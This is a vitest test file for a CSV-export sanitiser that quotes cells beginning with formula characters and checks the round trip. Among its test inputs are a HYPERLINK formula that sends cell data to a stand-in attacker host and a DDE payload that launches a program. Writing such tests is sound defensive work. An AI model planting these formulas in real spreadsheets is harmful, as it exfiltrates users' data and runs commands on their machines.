import { expect, test } from "vitest";
import { isOwnTable, quoteFormula, unquoteFormula } from "./csv-formula.ts";

test.each([
  ['=HYPERLINK("http://evil.example/?"&A1,"open")', true],
  ["+1+cmd|' /C calc'!A0", true],
  ["-2+3", true],
  ["@SUM(A1)", true],
  ["\t=1", true],
  ["\r=1", true],
  ["'=1", true],
  ["''@x", true],
  ["- a list", true],
  ["-3", false],
  ["+4.5e-7", false],
  ["'quoted'", false],
  ["a=b", false],
  [" =1", false],
  ["", false],
])("%j is quoted: %s, and comes back as it was", (text, isQuoted) => {
  const cell = quoteFormula(text);
  expect(cell).toBe(isQuoted ? `'${text}` : text);
  expect(unquoteFormula(cell)).toBe(text);
});

test("a table of our own is known by its columns", () => {
  expect(isOwnTable(["id", "inputs.q", "inputs", "outputs.a"])).toBe(true);
  expect(isOwnTable(["id", "question"])).toBe(false);
  expect(isOwnTable(["inputs.q"])).toBe(false);
  expect(isOwnTable(["id"])).toBe(false);
});
